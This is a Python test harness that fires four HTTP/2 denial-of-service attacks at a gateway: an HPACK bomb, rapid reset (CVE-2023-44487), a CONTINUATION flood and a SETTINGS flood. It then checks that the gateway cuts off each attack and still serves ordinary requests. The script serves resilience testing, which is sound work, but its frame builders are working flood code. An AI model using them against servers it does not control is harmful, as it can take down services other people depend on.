#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""HTTP/2 abuse against a gateway, over h2c with prior knowledge: each attack
on a connection of its own, each followed by a plain request on a fresh
connection that must still get 200.

  hpack-bomb      a 4,000-byte header put in the dynamic table once, then
                  referenced 200 times (800 kB decoded from 4 kB): the
                  stream must be reset, the connection must go on serving
  rapid-reset     5,000 streams opened and cancelled at once (CVE-2023-44487):
                  the gateway must end the connection (GOAWAY or close)
  continuation    a HEADERS frame and 50 CONTINUATION frames that never end
                  the header block (CVE-2024-27316 and kin): connection ended
  settings-flood  20,000 SETTINGS frames without reading the ACKs: ended

Usage: h2_abuse.py ADDR PORT HOST. Prints one line per attack, "ok NAME ..."
or "FAIL NAME ...", and exits 1 when any failed. Bounded: every socket
operation has a 5 s timeout, every loop a count.
"""
import socket
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4


def frame(typ, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([typ, flags]) + sid.to_bytes(4, "big") + payload


def hint(value, prefix_bits, first=0):
    """HPACK integer (RFC 7541 5.1) with the high bits of the first byte in <first>."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def hstr(s):
    return hint(len(s), 7) + s


def literal(name, value, indexing=False):
    """A literal field with a literal name: without indexing (0x00) or with (0x40)."""
    return (b"\x40" if indexing else b"\x00") + hstr(name) + hstr(value)


def request_block(host, path=b"/"):
    return (literal(b":method", b"GET") + literal(b":scheme", b"http") + literal(b":path", path) +
            literal(b":authority", host))


def connect(addr, port):
    s = socket.create_connection((addr, port), timeout=5)
    s.settimeout(5)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


def frames(s, limit=100000):
    """Frames read until the peer closes (or the count or a timeout ends it)."""
    buf = b""
    for _ in range(limit):
        while len(buf) < 9 or len(buf) < 9 + int.from_bytes(buf[:3], "big"):
            try:
                d = s.recv(65536)
            except (socket.timeout, ConnectionResetError):
                d = b""
            if not d:
                return
            buf += d
        n = int.from_bytes(buf[:3], "big")
        yield buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, buf[9:9 + n]
        buf = buf[9 + n:]


def status_of(addr, port, host, s=None, sid=1):
    """GET / on stream <sid> (a new connection when <s> is None): the :status, or an error string."""
    own = s is None
    try:
        if own:
            s = connect(addr, port)
        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(host)))
        for typ, flags, fsid, payload in frames(s):
            if typ == SETTINGS and not flags & 1:
                s.sendall(frame(SETTINGS, 1, 0))
            elif typ == GOAWAY:
                return "GOAWAY"
            elif typ == RST_STREAM and fsid == sid:
                return "RST_STREAM"
            elif typ == HEADERS and fsid == sid:
                # :status from the static table (indexed 8..14) or a literal
                if payload and 0x88 <= payload[0] <= 0x8E:
                    return [200, 204, 206, 304, 400, 404, 500][payload[0] - 0x88]
                return "status not indexed"
        return "closed"
    except OSError as e:
        return f"{type(e).__name__}"
    finally:
        if own and s:
            s.close()


def ended(s):
    """Did the gateway end the connection: a GOAWAY, or a close?"""
    for typ, _flags, _sid, payload in frames(s):
        if typ == GOAWAY:
            return "GOAWAY error %d" % int.from_bytes(payload[4:8], "big")
    return "closed"


def hpack_bomb(addr, port, host):
    s = connect(addr, port)
    try:
        block = request_block(host) + literal(b"x-bomb", b"a" * 4000, indexing=True)
        block += hint(62, 7, 0x80) * 200  # the dynamic table's first entry, 200 times
        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        reset = False
        for typ, flags, sid, _payload in frames(s, 50):
            if typ == SETTINGS and not flags & 1:
                s.sendall(frame(SETTINGS, 1, 0))
            if typ == RST_STREAM and sid == 1:
                reset = True
                break
            if typ in (HEADERS, GOAWAY):
                break
        after = status_of(addr, port, host, s, 3) if reset else None
        return reset and after == 200, f"stream reset: {reset}, next stream on it: {after}"
    finally:
        s.close()


def rapid_reset(addr, port, host):
    s = connect(addr, port)
    try:
        out = bytearray()
        for i in range(5000):
            sid = 2 * i + 1
            out += frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(host))
            out += frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big"))  # CANCEL
        try:
            s.sendall(bytes(out))
        except OSError:
            pass  # the gateway may close while we still write
        how = ended(s)
        return how.startswith(("GOAWAY", "closed")), how
    finally:
        s.close()


def continuation(addr, port, host):
    s = connect(addr, port)
    try:
        out = frame(HEADERS, END_STREAM, 1, request_block(host))
        for _ in range(50):
            out += frame(CONTINUATION, 0, 1, literal(b"x-more", b"b" * 100))
        try:
            s.sendall(out)
        except OSError:
            pass
        how = ended(s)
        return how.startswith(("GOAWAY", "closed")), how
    finally:
        s.close()


def settings_flood(addr, port, host):
    s = connect(addr, port)
    try:
        one = frame(SETTINGS, 0, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big"))
        try:
            for _ in range(20):
                s.sendall(one * 1000)
        except OSError:
            pass
        how = ended(s)
        return how.startswith(("GOAWAY", "closed")), how
    finally:
        s.close()


def main():
    addr, port, host = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
    failed = False
    for name, attack in (("hpack-bomb", hpack_bomb), ("rapid-reset", rapid_reset),
                         ("continuation", continuation), ("settings-flood", settings_flood)):
        try:
            good, detail = attack(addr, port, host)
        except OSError as e:
            good, detail = False, f"{type(e).__name__}: {e}"
        after = status_of(addr, port, host)
        good = good and after == 200
        failed |= not good
        print(f"{'ok' if good else 'FAIL'} {name}: {detail}; a new connection then: {after}", flush=True)
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
